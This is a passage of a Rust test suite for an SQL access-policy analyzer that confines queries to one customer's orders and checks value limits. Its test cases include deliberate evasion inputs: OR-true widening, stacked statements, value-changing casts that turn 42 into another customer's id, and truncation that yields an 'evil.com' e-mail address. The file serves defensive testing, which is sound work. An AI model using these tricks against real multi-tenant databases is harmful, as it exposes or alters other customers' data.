            "scope_missing",
        ),
        (
            "SELECT * FROM orders o, customers c WHERE o.customer_id = c.id AND c.id = 42",
            c42,
            "scope_missing",
        ),
        (
            "SELECT * FROM orders o JOIN customers c ON true WHERE o.customer_id = c.id",
            c42,
            "scope_missing",
        ),
        (
            "SELECT * FROM (orders o JOIN customers c ON c.id = o.customer_id) WHERE o.customer_id = 42",
            c42,
            "allow",
        ),
        // Through a join alias or USING: restricted in Postgres, but not
        // evident to the analyzer; denying is acceptable.
        (
            "SELECT * FROM (orders o JOIN customers c ON c.id = o.customer_id) j WHERE j.customer_id = 42",
            c42,
            "allow|scope_missing",
        ),
        (
            "SELECT * FROM orders a JOIN orders b USING (customer_id) WHERE customer_id = 42",
            c42,
            "allow|scope_missing",
        ),
        (
            "SELECT * FROM orders a JOIN orders b USING (id) WHERE a.customer_id = 42",
            c42,
            "scope_missing",
        ),
        // Subqueries: select list, IN, EXISTS, derived tables, LATERAL, correlated.
        (
            "SELECT id, (SELECT count(*) FROM orders WHERE customer_id = 42) FROM customers",
            c42,
            "allow",
        ),
        (
            "SELECT (SELECT max(total_cents) FROM orders o2 WHERE o2.customer_id = o.customer_id) FROM orders o WHERE o.customer_id = 42",
            c42,
            "scope_missing",
        ),
        (
            "SELECT * FROM customers WHERE id IN (SELECT customer_id FROM orders)",
            c42,
            "scope_missing",
        ),
        (
            "SELECT * FROM customers WHERE id IN (SELECT customer_id FROM orders WHERE customer_id = 42)",
            c42,
            "allow",
        ),
        (
            "SELECT * FROM customers c WHERE EXISTS (SELECT 1 FROM orders o WHERE o.customer_id = c.id)",
            c42,
            "scope_missing",
        ),
        (
            "SELECT * FROM customers c WHERE EXISTS (SELECT 1 FROM orders o WHERE o.customer_id = 42 AND o.customer_id = c.id)",
            c42,
            "allow",
        ),
        (
            "SELECT * FROM customers c WHERE NOT EXISTS (SELECT 1 FROM orders o WHERE o.customer_id = 43)",
            c42,
            "scope_violation",
        ),
        (
            "SELECT * FROM orders WHERE customer_id = 42 AND total_cents > (SELECT avg(total_cents) FROM orders)",
            c42,
            "scope_missing",
        ),
        (
            "SELECT * FROM (SELECT * FROM orders) s WHERE s.customer_id = 42",
            c42,
            "scope_missing",
        ),
        (
            "SELECT * FROM (SELECT * FROM (SELECT * FROM orders WHERE customer_id = 42) a) b",
            c42,
            "allow",
        ),
        (
            "SELECT * FROM customers c, LATERAL (SELECT * FROM orders o WHERE o.customer_id = c.id) x WHERE c.id = 42",
            c42,
            "scope_missing",
        ),
        (
            "SELECT * FROM customers c CROSS JOIN LATERAL (SELECT * FROM orders o WHERE o.customer_id = 42 AND o.customer_id = c.id) x",
            c42,
            "allow",
        ),
        (
            "SELECT * FROM customers c LEFT JOIN LATERAL (SELECT * FROM orders o WHERE o.customer_id = 43) x ON true",
            c42,
            "scope_violation",
        ),
        (
            "SELECT * FROM orders o WHERE o.customer_id = 42 AND EXISTS (SELECT 1 FROM orders p WHERE p.id = o.id)",
            c42,
            "scope_missing",
        ),
        // The inner customer_id is the outer o's column: not a pin of o's WHERE.
        (
            "SELECT * FROM orders o WHERE EXISTS (SELECT 1 FROM customers WHERE customer_id = 42)",
            c42,
            "scope_missing",
        ),
        (
            "SELECT * FROM orders WHERE customer_id = 42 ORDER BY (SELECT max(id) FROM orders)",
            c42,
            "scope_missing",
        ),
        (
            "SELECT * FROM orders WHERE customer_id = 42 LIMIT (SELECT count(*) FROM orders)",
            c42,
            "scope_missing",
        ),
        (
            "SELECT * FROM (TABLE orders) t WHERE customer_id = 42",
            c42,
            "scope_missing",
        ),
        (
            "SELECT * FROM orders WHERE customer_id = 42 UNION ALL TABLE orders",
            c42,
            "scope_missing",
        ),
        // CTEs: each use inside and outside.
        (
            "WITH x AS (SELECT * FROM orders WHERE customer_id = 42) SELECT * FROM x",
            c42,
            "allow",
        ),
        (
            "WITH x AS (SELECT * FROM orders WHERE customer_id = 42) SELECT * FROM x JOIN orders o ON o.id = x.id",
            c42,
            "scope_missing",
        ),
        (
            "WITH x AS (SELECT * FROM orders WHERE customer_id = 42) SELECT * FROM x JOIN orders o ON o.id = x.id WHERE o.customer_id = 42",
            c42,
            "allow",
        ),
        (
            "WITH orders AS (SELECT * FROM orders WHERE customer_id = 42) SELECT * FROM orders",
            c42,
            "allow",
        ),
        (
            "WITH orders AS (SELECT * FROM orders) SELECT * FROM orders WHERE customer_id = 42",
            c42,
            "scope_missing",
        ),
        (
            "WITH x AS (SELECT * FROM orders) SELECT 1",
            c42,
            "scope_missing",
        ),
        (
            "WITH a AS (SELECT * FROM orders WHERE customer_id = 42), b AS (SELECT * FROM orders WHERE customer_id = 43) SELECT * FROM a",
            c42,
            "scope_violation",
        ),
        (
            "WITH x AS MATERIALIZED (SELECT * FROM orders WHERE customer_id = 42) SELECT * FROM x",
            c42,
            "allow",
        ),
        (
            "WITH RECURSIVE r AS (SELECT id FROM orders WHERE customer_id = 42 UNION ALL SELECT o.id FROM orders o JOIN r ON o.id = r.id + 1) SELECT * FROM r",
            c42,
            "scope_missing",
        ),
        (
            "WITH RECURSIVE r AS (SELECT id FROM orders WHERE customer_id = 42 UNION ALL SELECT o.id FROM orders o JOIN r ON o.id = r.id + 1 WHERE o.customer_id = 42) SELECT * FROM r",
            c42,
            "allow",
        ),
        (
            "WITH u AS (UPDATE orders SET status = 'paid' WHERE customer_id = 42 RETURNING id) SELECT * FROM u",
            c42,
            "allow",
        ),
        (
            "WITH u AS (UPDATE orders SET status = 'paid' WHERE customer_id = 43 RETURNING id) SELECT * FROM u",
            c42,
            "scope_violation",
        ),
        (
            "WITH i AS (INSERT INTO orders (customer_id, shipping_country) VALUES (43, 'US') RETURNING id) SELECT * FROM i",
            c42,
            "scope_violation",
        ),
        // Set operations: each branch.
        (
            "SELECT id FROM orders WHERE customer_id = 42 UNION SELECT id FROM orders WHERE customer_id = 42",
            c42,
            "allow",
        ),
        (
            "SELECT id FROM orders WHERE customer_id = 42 UNION SELECT id FROM orders",
            c42,
            "scope_missing",
        ),
        (
            "SELECT id FROM orders WHERE customer_id = 42 INTERSECT SELECT id FROM orders",
            c42,
            "scope_missing",
        ),
        (
            "SELECT id FROM orders WHERE customer_id = 42 EXCEPT SELECT id FROM orders WHERE customer_id = 43",
            c42,
            "scope_violation",
        ),
        (
            "(SELECT id FROM orders WHERE customer_id = 42) UNION ALL (SELECT id FROM orders WHERE customer_id = 42 EXCEPT SELECT id FROM orders)",
            c42,
            "scope_missing",
        ),
        (
            "SELECT id FROM customers UNION SELECT id FROM orders WHERE customer_id = 42",
            c42,
            "allow",
        ),
        (
            "SELECT * FROM orders WHERE customer_id = 42; SELECT * FROM orders",
            c42,
            "scope_missing",
        ),
        // OR-widening and other non-conjunct shapes.
        (
            "SELECT * FROM orders WHERE customer_id = 42 OR customer_id = 43",
            c42,
            "scope_missing",
        ),
        (
            "SELECT * FROM orders WHERE (customer_id = 42 OR true)",
            c42,
            "scope_missing",
        ),
        (
            "SELECT * FROM orders WHERE customer_id = 42 OR id = 1",
            c42,
            "scope_missing",
        ),
        (
            "SELECT * FROM orders WHERE customer_id = 42 OR customer_id = 42",
            c42,
            "scope_missing",
        ),
        (
            "SELECT * FROM orders WHERE NOT (customer_id <> 42) AND true",
            c42,
            "scope_missing",
        ),
        (
            "SELECT * FROM orders WHERE NOT NOT (customer_id = 42)",
            c42,
            "scope_missing",
        ),
        (
            "SELECT * FROM orders WHERE (customer_id = 42) IS TRUE",
            c42,
            "scope_missing",
        ),
        (
            "SELECT * FROM orders WHERE COALESCE(customer_id = 42, true)",
            c42,
            "scope_missing",
        ),
        (
            "SELECT * FROM orders WHERE CASE WHEN id > 0 THEN customer_id = 42 ELSE true END",
            c42,
            "scope_missing",
        ),
        (
            "SELECT * FROM orders WHERE customer_id = 42 AND (id = 1 OR true)",
            c42,
            "allow",
        ),
        (
            "SELECT * FROM orders WHERE true AND customer_id = 42",
            c42,
            "allow",
        ),
        (
            "SELECT * FROM orders WHERE ((customer_id = 42) AND (status = 'paid'))",
            c42,
            "allow",
        ),
        (
            "SELECT customer_id, count(*) FROM orders WHERE true GROUP BY customer_id HAVING customer_id = 42",
            c42,
            "scope_missing",
        ),
        // Comparisons with columns, ranges, other operators.
        (
            "SELECT * FROM orders WHERE customer_id = customer_id",
            c42,
            "scope_missing",
        ),
        (
            "SELECT * FROM orders WHERE customer_id IS NOT DISTINCT FROM 42",
            c42,
            "scope_missing",
        ),
        (
            "SELECT * FROM orders WHERE customer_id BETWEEN 42 AND 42",
            c42,
            "scope_missing",
        ),
        (
            "SELECT * FROM orders WHERE customer_id >= 42 AND customer_id <= 42",
            c42,
            "scope_missing",
        ),
        (
            "SELECT * FROM orders WHERE customer_id <> 43",
            c42,
            "scope_missing",
        ),
        (
            "SELECT * FROM orders WHERE (customer_id, id) = (42, 1)",
            c42,
            "scope_missing",
        ),
        (
            "SELECT * FROM orders WHERE customer_id::text = '42'",
            c42,
            "scope_missing",
        ),
        (
            "SELECT * FROM orders WHERE customer_id + 0 = 42",
            c42,
            "scope_missing",
        ),
        // Casts: value-preserving casts are looked through.
        (
            "SELECT * FROM orders WHERE customer_id = '42'::int8",
            c42,
            "allow",
        ),
        (
            "SELECT * FROM orders WHERE customer_id = CAST(42 AS bigint)",
            c42,
            "allow",
        ),
        (
            "SELECT * FROM orders WHERE customer_id = CAST('43' AS bigint)",
            c42,
            "scope_violation",
        ),
        (
            "SELECT * FROM orders WHERE customer_id = 42::bigint::int",
            c42,
            "allow",
        ),
        // A typed literal: restricted to 42, denying is acceptable.
        (
            "SELECT * FROM orders WHERE customer_id = bigint '42'",
            c42,
            "allow|scope_missing",
        ),
        // Casts that change the value (PostgreSQL 15): '42'::char(1) is
        // '4', 42::bit(3)::int is 2 (customer 2's five orders come back),
        // 42::numeric(2,-1) is 40, '42'::"char"::int is 52. The literal
        // reads 42 but the comparison is with another customer.
        (
            "SELECT * FROM orders WHERE customer_id = '42'::char(1)::bigint",
            c42,
            "scope_missing|scope_violation",
        ),
        (
            "SELECT * FROM orders WHERE customer_id = 42::bit(3)::int",
            c42,
            "scope_missing|scope_violation",
        ),
        (
            "SELECT * FROM orders WHERE customer_id = 42::numeric(2,-1)",
            c42,
            "scope_missing|scope_violation",
        ),
        (
            "SELECT * FROM orders WHERE customer_id = '42'::\"char\"::int",
            c42,
            "scope_missing|scope_violation",
        ),
        (
            "SELECT * FROM orders WHERE customer_id IN (42::bit(3)::int)",
            c42,
            "scope_missing|scope_violation",
        ),
        (
            "UPDATE orders SET status = 'paid' WHERE customer_id = 42::bit(3)::int",
            c42,
            "scope_missing|scope_violation",
        ),
        (
            "INSERT INTO orders (customer_id, shipping_country) VALUES (42::bit(3)::int, 'US')",
            c42,
            "scope_missing|scope_violation",
        ),
        // Expressions are not evident values.
        (
            "SELECT * FROM orders WHERE customer_id = 41 + 1",
            c42,
            "scope_missing",
        ),
        (
            "SELECT * FROM orders WHERE customer_id = abs(-42)",
            c42,
            "scope_missing",
        ),
        (
            "SELECT * FROM orders WHERE customer_id = -(-42)",
            c42,
            "scope_missing",
        ),
        (
            "SELECT * FROM orders WHERE customer_id = (SELECT 42)",
            c42,
            "scope_missing",
        ),
        (
            "SELECT * FROM orders WHERE customer_id = +42",
            c42,
            "allow|scope_missing",
        ),
        // Literal spellings: numbers by value, strings as Postgres reads
        // them into bigint (int8in trims blanks).
        ("SELECT * FROM orders WHERE customer_id = 042", c42, "allow"),
        (
            "SELECT * FROM orders WHERE customer_id = '042'",
            c42,
            "allow",
        ),
        (
            "SELECT * FROM orders WHERE customer_id = ' 42 '",
            c42,
            "allow",
        ),
        (
            "SELECT * FROM orders WHERE customer_id = '043'",
            c42,
            "scope_violation",
        ),
        (
            "SELECT * FROM orders WHERE customer_id = '43'",
            c42,
            "scope_violation",
        ),
        (
            "SELECT * FROM orders WHERE customer_id = '42abc'",
            c42,
            "deny",
        ),
        // 42.0 equals 42 in Postgres: allowing is precise, a denial is safe.
        (
            "SELECT * FROM orders WHERE customer_id = 42.0",
            c42,
            "allow|scope_violation",
        ),
        // IN lists.
        (
            "SELECT * FROM orders WHERE customer_id IN (42, 42, 42)",
            c42,
            "allow",
        ),
        (
            "SELECT * FROM orders WHERE customer_id IN ('42', 42)",
            c42,
            "allow",
        ),
        (
            "SELECT * FROM orders WHERE customer_id IN (42, '43')",
            c42,
            "scope_violation",
        ),
        (
            "SELECT * FROM orders WHERE customer_id IN (43, 42)",
            c42,
            "scope_violation",
        ),
        (
            "SELECT * FROM orders WHERE customer_id IN (42, NULL)",
            c42,
            "scope_missing",
        ),
        (
            "SELECT * FROM orders WHERE customer_id NOT IN (42)",
            c42,
            "scope_missing",
        ),
        (
            "SELECT * FROM orders WHERE customer_id IN (42, 41 + 1)",
            c42,
            "scope_missing",
        ),
        (
            "SELECT * FROM orders WHERE customer_id IN (42) OR customer_id IN (43)",
            c42,
            "scope_missing",
        ),
        (
            "SELECT * FROM orders WHERE customer_id IN ($1)",
            c42,
            "scope_parameter",
        ),
        // ANY / ALL.
        (
            "SELECT * FROM orders WHERE customer_id = ANY(ARRAY[42, 42])",
            c42,
            "allow",
        ),
        (
            "SELECT * FROM orders WHERE customer_id = ANY(ARRAY[43])",
            c42,
            "scope_violation",
        ),
        (
            "SELECT * FROM orders WHERE customer_id = ANY(ARRAY[42, NULL])",
            c42,
            "scope_missing",
        ),
        // A string array literal is not an evident value.
        (
            "SELECT * FROM orders WHERE customer_id = ANY('{42}')",
            c42,
            "scope_missing",
        ),
        (
            "SELECT * FROM orders WHERE customer_id = ANY('{42}'::bigint[])",
            c42,
            "scope_missing",
        ),
        (
            "SELECT * FROM orders WHERE customer_id <> ANY(ARRAY[43])",
            c42,
            "scope_missing",
        ),
        (
            "SELECT * FROM orders WHERE customer_id = ALL(ARRAY[42])",
            c42,
            "allow|scope_missing",
        ),
        (
            "SELECT * FROM orders WHERE customer_id = ANY(SELECT 42)",
            c42,
            "scope_missing",
        ),
        (
            "SELECT * FROM orders WHERE customer_id = ANY(ARRAY[$1])",
            c42,
            "scope_parameter",
        ),
        // Parameters cannot be checked in a simple Query.
        (
            "SELECT * FROM orders WHERE customer_id = $1::bigint",
            c42,
            "scope_parameter",
        ),
        (
            "SELECT * FROM orders WHERE customer_id = $2 AND id = $1",
            c42,
            "scope_parameter",
        ),
        (
            "UPDATE orders SET status = 'paid' WHERE customer_id = $1",
            c42,
            "scope_parameter",
        ),
        (
            "SELECT * FROM orders WHERE customer_id = 42 AND customer_id = $1",
            c42,
            "allow|scope_parameter",
        ),
        // UPDATE: may not change the scoped column, each use pinned.
        (
            "UPDATE orders SET customer_id = 43 WHERE customer_id = 42",
            c42,
            "scope_column_write",
        ),
        (
            "UPDATE orders SET CUSTOMER_ID = 42 WHERE customer_id = 42",
            c42,
            "scope_column_write",
        ),
        (
            "UPDATE orders SET \"customer_id\" = 42 WHERE customer_id = 42",
            c42,
            "scope_column_write",
        ),
        (
            "UPDATE orders SET (status, customer_id) = (SELECT 'paid', 43) WHERE customer_id = 42",
            c42,
            "scope_column_write",
        ),
        (
            "UPDATE orders o SET customer_id = c.id FROM customers c WHERE o.customer_id = 42 AND c.id = 43",
            c42,
            "scope_column_write",
        ),
        (
            "UPDATE orders o SET status = 'paid' FROM orders p WHERE o.customer_id = 42 AND p.id = o.id",
            c42,
            "scope_missing",
        ),
        (
            "UPDATE orders o SET status = 'paid' FROM orders p WHERE o.customer_id = 42 AND p.customer_id = 42 AND p.id = o.id",
            c42,
            "allow",
        ),
        (
            "UPDATE orders SET notes = (SELECT notes FROM orders WHERE customer_id = 43 LIMIT 1) WHERE customer_id = 42",
            c42,
            "scope_violation",
        ),
        (
            "UPDATE orders SET status = 'paid' WHERE customer_id = 42 RETURNING (SELECT count(*) FROM orders)",
            c42,
            "scope_missing",
        ),
        (
            "UPDATE orders SET status = 'paid' WHERE customer_id = 42 OR true",
            c42,
            "scope_missing",
        ),
        (
            "UPDATE orders AS o SET status = 'paid' WHERE o.customer_id = 42",
            c42,
            "allow",
        ),
        ("UPDATE orders SET status = 'paid'", c42, "missing_where"),
        // DELETE is not a statement class of `scoped`: the class check
        // comes before scoping.
        (
            "DELETE FROM orders WHERE customer_id = 42",
            c42,
            "statement_class_denied",
        ),
        ("DELETE FROM orders", c42, "statement_class_denied"),
        (
            "WITH d AS (DELETE FROM orders WHERE customer_id = 42 RETURNING id) SELECT * FROM d",
            c42,
            "statement_class_denied",
        ),
        (
            "DELETE FROM orders WHERE customer_id = 42",
            none,
            "statement_class_denied",
        ),
        // INSERT: every row writes the scoped value.
        (
            "INSERT INTO orders (shipping_country, customer_id) VALUES ('US', 42)",
            c42,
            "allow",
        ),
        (
            "INSERT INTO orders (\"customer_id\", shipping_country) VALUES ('42', 'US')",
            c42,
            "allow",
        ),
        (
            "INSERT INTO orders (CUSTOMER_ID, shipping_country) VALUES (042, 'US')",
            c42,
            "allow",
        ),
        (
            "INSERT INTO orders (customer_id, shipping_country) VALUES ('43', 'US')",
            c42,
            "scope_violation",
        ),
        (
            "INSERT INTO orders (customer_id, shipping_country) VALUES (NULL, 'US')",
            c42,
            "scope_missing",
        ),
        (
            "INSERT INTO orders (customer_id, shipping_country) VALUES (DEFAULT, 'US')",
            c42,
            "scope_missing",
        ),
        (
            "INSERT INTO orders (customer_id, shipping_country) VALUES ((SELECT 42), 'US')",
            c42,
            "scope_missing",
        ),
        (
            "INSERT INTO orders (customer_id, shipping_country) VALUES (42, 'US'), (42, 'CA'), (43, 'US')",
            c42,
            "scope_violation",
        ),
        (
            "INSERT INTO orders (customer_id, shipping_country) VALUES (42, 'US'), (41 + 1, 'US')",
            c42,
            "scope_missing",
        ),
        // Positional: id, customer_id, status, total_cents, … (catalog order).
        (
            "INSERT INTO orders VALUES (42, 1, 'pending', 0, 'USD', 'US')",
            c42,
            "scope_violation",
        ),
        (
            "INSERT INTO orders VALUES (DEFAULT, '42', 'paid', 100, 'USD', 'US', 'n', now(), now())",
            c42,
            "allow",
        ),
        ("INSERT INTO orders VALUES (1)", c42, "scope_missing"),
        (
            "INSERT INTO orders VALUES (DEFAULT, 42, 'pending', 0, 'USD', 'US', NULL, now(), now(), 'extra')",
            c42,
            "scope_unverifiable",
        ),
        (
            "INSERT INTO orders DEFAULT VALUES",
            c42,
            "scope_unverifiable",
        ),
        (
            "INSERT INTO orders (customer_id, shipping_country) VALUES (42, 'US') UNION ALL VALUES (43, 'US')",
            c42,
            "scope_unverifiable",
        ),
        (
            "INSERT INTO orders (customer_id, shipping_country) (VALUES (43, 'US'))",
            c42,
            "scope_unverifiable",
        ),
        (
            "INSERT INTO orders (customer_id, shipping_country) SELECT customer_id, 'US' FROM orders WHERE customer_id = 42",
            c42,
            "scope_unverifiable",
        ),
        (
            "INSERT INTO orders (customer_id, shipping_country, notes) VALUES (42, 'US', (SELECT notes FROM orders WHERE customer_id = 43 LIMIT 1))",
            c42,
            "scope_violation",
        ),
        (
            "INSERT INTO orders (customer_id, shipping_country) VALUES (42, 'US') RETURNING (SELECT count(*) FROM orders)",
            c42,
            "scope_missing",
        ),
        // ON CONFLICT.
        (
            "INSERT INTO orders (customer_id, shipping_country) VALUES (42, 'US') ON CONFLICT DO NOTHING",
            c42,
            "allow",
        ),
        // excluded is the proposed row; the existing row may be another customer's.
        (
            "INSERT INTO orders (id, customer_id, shipping_country) VALUES (1, 42, 'US') ON CONFLICT (id) DO UPDATE SET status = 'paid' WHERE excluded.customer_id = 42",
            c42,
            "scope_missing",
        ),
        // Postgres: column reference "customer_id" is ambiguous.
        (
            "INSERT INTO orders (id, customer_id, shipping_country) VALUES (1, 42, 'US') ON CONFLICT (id) DO UPDATE SET status = 'paid' WHERE customer_id = 42",
            c42,
            "scope_missing",
        ),
        (
            "INSERT INTO orders AS o (id, customer_id, shipping_country) VALUES (1, 42, 'US') ON CONFLICT (id) DO UPDATE SET status = 'paid' WHERE o.customer_id = 42",
            c42,
            "allow",
        ),
        (
            "INSERT INTO orders AS o (id, customer_id, shipping_country) VALUES (1, 42, 'US') ON CONFLICT (id) DO UPDATE SET status = 'paid' WHERE o.customer_id = 43",
            c42,
            "scope_violation",
        ),
        (
            "INSERT INTO orders AS o (id, customer_id, shipping_country) VALUES (1, 42, 'US') ON CONFLICT (id) DO UPDATE SET status = 'paid' WHERE o.customer_id = 42 OR true",
            c42,
            "scope_missing",
        ),
        (
            "INSERT INTO orders (id, customer_id, shipping_country) VALUES (1, 42, 'US') ON CONFLICT (id) DO UPDATE SET customer_id = excluded.customer_id WHERE orders.customer_id = 42",
            c42,
            "scope_column_write",
        ),
        (
            "INSERT INTO orders (id, customer_id, shipping_country) VALUES (1, 42, 'US') ON CONFLICT ON CONSTRAINT orders_pkey DO UPDATE SET status = 'paid' WHERE orders.customer_id = 42",
            c42,
            "allow",
        ),
        (
            "INSERT INTO orders (id, customer_id, shipping_country) VALUES (1, 43, 'US') ON CONFLICT (id) DO UPDATE SET status = 'paid' WHERE orders.customer_id = 42",
            c42,
            "scope_violation",
        ),
        // Claims: missing, another customer, leading zeros.
        (
            "SELECT * FROM orders WHERE customer_id = 42",
            c43,
            "scope_violation",
        ),
        ("SELECT * FROM orders WHERE customer_id = 43", c43, "allow"),
        (
            "INSERT INTO orders (customer_id, shipping_country) VALUES (42, 'US')",
            c43,
            "scope_violation",
        ),
        ("SELECT * FROM orders WHERE customer_id = 42", c042, "allow"),
        (
            "INSERT INTO orders (customer_id, shipping_country) VALUES (42, 'US')",
            none,
            "claim_missing",
        ),
        (
            "UPDATE orders SET status = 'paid' WHERE customer_id = 42",
            none,
            "claim_missing",
        ),
        ("SELECT * FROM customers WHERE id = 43", none, "allow"),
        // customers and order_items are not scoped for `scoped`.
        ("SELECT * FROM customers WHERE id = 43", c42, "allow"),
        (
            "UPDATE customers SET full_name = 'x' WHERE id = 43",
            c42,
            "allow",
        ),
        ("SELECT * FROM order_items", c42, "allow"),
        (
            "SELECT * FROM customers c JOIN orders o ON o.customer_id = c.id WHERE c.id = 42",
            c42,
            "scope_missing",
        ),
    ];
    let mut failures = Vec::new();
    for (sql, claims, expected) in cases {
        let got = outcome_with_claims("scoped", sql, claims);
        if !matches(expected, &got) {
            failures.push(format!(
                "  {sql} {claims:?}\n      expected {expected}, got {got}"
            ));
        }
    }
    assert!(
        failures.is_empty(),
        "{} of {} failed:\n{}",
        failures.len(),
        cases.len(),
        failures.join("\n")
    );
}

/// More value limits (tests/rules/scoped.toml): boundaries and spellings
/// of numbers, strings that are not numbers, NULL and expressions,
/// multi-row VALUES, UPDATE tuples, status membership and e-mail domains
/// (the domain is the part after the last `@`).
#[test]
fn more_value_limits() {
    use common::policy::outcome_with_claims;
    let c = [("customer_id", "42")];
    let w = "WHERE customer_id = 42";
    let ins = "INSERT INTO orders (customer_id, shipping_country, total_cents) VALUES";
    let cases: Vec<(String, &str)> = vec![
        // total_cents in [0, 50000].
        (format!("UPDATE orders SET total_cents = 50000.0 {w}"), "allow"),
        (format!("UPDATE orders SET total_cents = 50000.0001 {w}"), "value_limit"),
        (format!("UPDATE orders SET total_cents = -0 {w}"), "allow"),
        (format!("UPDATE orders SET total_cents = 5.0E+4 {w}"), "allow"),
        (format!("UPDATE orders SET total_cents = 0.5e5 {w}"), "allow"),
        (format!("UPDATE orders SET total_cents = 5e-1 {w}"), "allow"),
        (format!("UPDATE orders SET total_cents = 5.0E+5 {w}"), "value_limit"),
        (format!("UPDATE orders SET total_cents = 1e400 {w}"), "value_limit"),
        // Postgres rejects '5e4' as integer input; either outcome is safe.
        (format!("UPDATE orders SET total_cents = '5e4' {w}"), "allow|value_limit"),
        (format!("UPDATE orders SET total_cents = ' 500 ' {w}"), "allow"),
        (format!("UPDATE orders SET total_cents = '+50001' {w}"), "value_limit"),
        (format!("UPDATE orders SET total_cents = '-1' {w}"), "value_limit"),
        (format!("UPDATE orders SET total_cents = - 1 {w}"), "value_limit"),
        (format!("UPDATE orders SET total_cents = -1e-9 {w}"), "value_limit"),
        (format!("UPDATE orders SET total_cents = 'NaN' {w}"), "value_limit"),
        (format!("UPDATE orders SET total_cents = 'Infinity' {w}"), "value_limit"),
        (format!("UPDATE orders SET total_cents = '' {w}"), "value_limit"),
        (format!("UPDATE orders SET total_cents = CAST(60000 AS int) {w}"), "value_limit"),
        (format!("UPDATE orders SET total_cents = '60000'::int {w}"), "value_limit"),
        (format!("UPDATE orders SET total_cents = -(-5) {w}"), "value_unverifiable"),
        (format!("UPDATE orders SET total_cents = 50000 + 0 {w}"), "value_unverifiable"),
        (format!("UPDATE orders SET total_cents = abs(-1) {w}"), "value_unverifiable"),
        (format!("UPDATE orders SET total_cents = $1 {w}"), "value_unverifiable"),
        (format!("UPDATE orders SET total_cents = DEFAULT {w}"), "value_unverifiable"),
        // 50000::numeric(1,-5) is 100000 in PostgreSQL 15 (negative scale
        // rounds to 10^5), and that is what gets written.
        (format!("UPDATE orders SET total_cents = 50000::numeric(1,-5) {w}"), "value_limit|value_unverifiable"),
        // UPDATE tuples.
        (format!("UPDATE orders SET (status, total_cents) = ('paid', 50000) {w}"), "allow"),
        (format!("UPDATE orders SET (total_cents, status) = (1, 'shipped') {w}"), "value_limit"),
        (format!("UPDATE orders SET (status, total_cents) = (SELECT 'paid', 1) {w}"), "value_unverifiable"),
        (format!("UPDATE orders SET (notes, total_cents) = ('x', -5) {w}"), "value_limit"),
        // Multi-row and positional VALUES.
        (format!("{ins} (42, 'US', 0), (42, 'US', 50000), (42, 'US', 5e4)"), "allow"),
        (format!("{ins} (42, 'US', 0), (42, 'US', -1)"), "value_limit"),
        (format!("{ins} (42, 'US', 1), (42, 'US', NULL)"), "value_unverifiable"),
        (format!("{ins} (42, 'US', DEFAULT)"), "value_unverifiable"),
        ("INSERT INTO orders VALUES (DEFAULT, 42, 'paid', 50000, 'USD', 'US')".into(), "allow"),
        ("INSERT INTO orders VALUES (DEFAULT, 42, 'pending', 60000, 'USD', 'US')".into(), "value_limit"),
        ("INSERT INTO orders VALUES (DEFAULT, 42, 'shipped')".into(), "value_limit"),
        ("INSERT INTO orders (status, customer_id, shipping_country) VALUES ('paid', 42, 'US'), ('delivered', 42, 'US')".into(), "value_limit"),
        ("INSERT INTO orders (status, customer_id, shipping_country) VALUES ('paid', 42, 'US'), ('pending', 42, 'US'), ('cancelled', 42, 'US')".into(), "allow"),
        ("INSERT INTO orders (id, customer_id, shipping_country) VALUES (1, 42, 'US') ON CONFLICT (id) DO UPDATE SET total_cents = 60000 WHERE orders.customer_id = 42".into(), "value_limit"),
        ("INSERT INTO orders (id, customer_id, shipping_country) VALUES (1, 42, 'US') ON CONFLICT (id) DO UPDATE SET total_cents = excluded.total_cents WHERE orders.customer_id = 42".into(), "value_unverifiable"),
        // status: case-sensitive set membership.
        (format!("UPDATE orders SET status = 'pending' {w}"), "allow"),
        (format!("UPDATE orders SET status = 'cancelled' {w}"), "allow"),
        (format!("UPDATE orders SET status = 'Paid' {w}"), "value_limit"),
        (format!("UPDATE orders SET status = 'paid ' {w}"), "value_limit"),
        (format!("UPDATE orders SET status = '' {w}"), "value_limit"),
        (format!("UPDATE orders SET status = 'refunded' {w}"), "value_limit"),
        (format!("UPDATE orders SET status = 'paid'::text {w}"), "allow"),
        (format!("UPDATE orders SET status = NULL {w}"), "value_unverifiable"),
        (format!("UPDATE orders SET status = 'pa' || 'id' {w}"), "value_unverifiable"),
        // email at example.com: the domain is the part after the last @.
        ("UPDATE customers SET email = 'a@sub.example.com' WHERE id = 1".into(), "value_limit"),
        ("UPDATE customers SET email = 'a@example.com.' WHERE id = 1".into(), "value_limit"),
        ("UPDATE customers SET email = 'A.B@Example.Com' WHERE id = 1".into(), "allow"),
        ("UPDATE customers SET email = 'a@b@example.com' WHERE id = 1".into(), "allow"),
        ("UPDATE customers SET email = 'a@example.com@evil.com' WHERE id = 1".into(), "value_limit"),
        ("UPDATE customers SET email = 'a@example.com ' WHERE id = 1".into(), "value_limit"),
        ("UPDATE customers SET email = 'a@' WHERE id = 1".into(), "value_limit"),
        ("UPDATE customers SET email = 'a@xexample.com' WHERE id = 1".into(), "value_limit"),
        ("UPDATE customers SET email = NULL WHERE id = 1".into(), "value_unverifiable"),
        ("UPDATE customers SET email = lower('A@example.com') WHERE id = 1".into(), "value_unverifiable"),
        ("UPDATE customers SET (full_name, email) = ('x', 'x@evil.com') WHERE id = 1".into(), "value_limit"),
        // varchar(10) truncates to 'a@evil.com' in PostgreSQL 15, and that
        // is what gets written.
        ("UPDATE customers SET email = 'a@evil.com@example.com'::varchar(10) WHERE id = 1".into(), "value_limit|value_unverifiable"),
    ];
    let mut failures = Vec::new();
    for (sql, expected) in &cases {
        let got = outcome_with_claims("scoped", sql, &c);
        if !matches(expected, &got) {
            failures.push(format!("  {sql}\n      expected {expected}, got {got}"));
        }
    }
    assert!(
        failures.is_empty(),
        "{} of {} failed:\n{}",
        failures.len(),
        cases.len(),
        failures.join("\n")
    );
}

/// A parenthesised join keeps its tables' names visible (without an alias)
/// or hides them behind its alias: either way columns are attributed.
#[test]
fn parenthesised_joins_attribute_columns() {
    check(&[
        (
            A,
            "SELECT c.email FROM (customers c JOIN orders o ON o.customer_id = c.id)",
            "column_denied",
        ),
        (
            A,
            "SELECT c.country FROM (customers c JOIN orders o ON o.customer_id = c.id)",
            "allow",
        ),
        (
            A,
            "SELECT email FROM (customers c JOIN orders o ON o.customer_id = c.id)",
            "column_denied",
        ),
        (
            A,
            "SELECT j.email FROM (customers c JOIN orders o ON o.customer_id = c.id) AS j",
            "column_denied",
        ),
        (
            A,
            "SELECT j.status FROM (customers c JOIN orders o ON o.customer_id = c.id) AS j",
            "allow",
        ),
        (
            A,
